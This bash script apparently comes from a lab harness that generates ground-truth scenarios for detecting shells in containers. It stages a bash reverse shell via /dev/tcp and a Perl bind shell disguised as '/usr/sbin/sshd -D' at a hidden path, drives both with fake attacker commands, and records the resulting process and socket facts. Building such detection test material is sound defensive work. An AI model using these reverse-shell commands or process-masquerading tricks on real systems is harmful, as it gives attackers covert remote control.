#!/bin/bash
# Scenario revshell: two interactive shells in one container.
#  - a bash reverse shell, `bash -i >& /dev/tcp/127.44.3.2/9001 0>&1`, caught by a fake
#    attacker listener on the host that runs a few commands through it;
#  - a Perl bind shell listening in the container on 127.44.3.3:31337 (host network), with a
#    fake attacker connected to it (its /bin/sh -i child holds the accepted socket).
# Usage: lab/scenarios/revshell.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init revshell "$@"

REV=127.44.3.2:9001
BIND=127.44.3.3:31337
BINDNAME='/usr/sbin/sshd -D'
BINDPATH=/var/lib/.sshd-helper
lab_template "$SPEC/bindshell.pl" "$WORK/bind.pl" "BIND=$BIND" "PROCNAME=$BINDNAME"

lab_need_free "$REV" "$BIND"
lab_peer rev-listener perl "$PEERS/shell_peer.pl" --listen "$REV" --summary "$WORK/peer-rev-listener.json" \
    --cmds 'id|hostname|uname -r|echo $$ $PPID'
lab_wait "reverse-shell listener on $REV" 10 lab_listening ${REV%:*} ${REV#*:}

lab_run --env APP_ENV=prod --env "API_TOKEN=tok-$(od -An -N6 -tx1 /dev/urandom | tr -d ' \n')" \
    --hostname billing-api -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'

lab_exec_bg "bash -c 'bash -i >& /dev/tcp/${REV%:*}/${REV#*:} 0>&1'"
lab_wait "reverse shell answered its commands" 30 \
    lab_json "$WORK/peer-rev-listener.json" 'd["sessions"] and d["sessions"][0].get("commands_done")'

lab_cp "$WORK/bind.pl" "$BINDPATH" 0700
lab_exec_bg "perl $BINDPATH"
lab_wait "bind shell listening on $BIND" 15 lab_listening ${BIND%:*} ${BIND#*:}
lab_peer bind-client perl "$PEERS/shell_peer.pl" --connect "$BIND" --summary "$WORK/peer-bind-client.json" \
    --cmds 'id|pwd|ls /root'
lab_wait "bind shell answered its commands" 30 \
    lab_json "$WORK/peer-bind-client.json" 'd["sessions"] and d["sessions"][0].get("commands_done")'

lab_finish "$BINDPATH" /var/log/app.log

cat >"$WORK/params.json" <<EOF
{"reverse_shell_target": "$REV", "reverse_shell_command": "bash -i >& /dev/tcp/${REV%:*}/${REV#*:} 0>&1",
 "bind_shell_listen": "$BIND", "bind_shell_path": "$BINDPATH", "bind_shell_proc_name": "$BINDNAME"}
EOF
"$LAB_PY" - "$WORK/live.json" "$REV" "$BIND" >"$WORK/facts.json" <<'EOF'
import json, sys
live, rev, bind = json.load(open(sys.argv[1])), sys.argv[2], sys.argv[3]
def socks(p):
    return {f["fd"]: f["socket"] for f in p["fds"] if "socket" in f}
out = {"reverse_shell_pids": [], "bind_listener_pids": [], "bind_session_pids": []}
for p in live["processes"]:
    s = socks(p)
    if any(x.get("remote") == rev and x.get("state") == "ESTABLISHED" for x in s.values()):
        out["reverse_shell_pids"].append({"pid": p["pid"], "comm": p["comm"], "cmdline": p["cmdline"],
            "socket_fds": sorted(fd for fd, x in s.items() if x.get("remote") == rev)})
    if any(x.get("local") == bind and x.get("state") == "LISTEN" for x in s.values()):
        out["bind_listener_pids"].append({"pid": p["pid"], "comm": p["comm"], "cmdline": p["cmdline"]})
    if any(x.get("local") == bind and x.get("state") == "ESTABLISHED" for x in s.values()):
        out["bind_session_pids"].append({"pid": p["pid"], "comm": p["comm"], "cmdline": p["cmdline"],
            "socket_fds": sorted(fd for fd, x in s.items() if x.get("local") == bind)})
print(json.dumps(out, indent=2))
EOF
lab_truth --description "bash reverse shell to $REV (fake attacker on the host) and a Perl bind shell on $BIND with an attacker connected" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
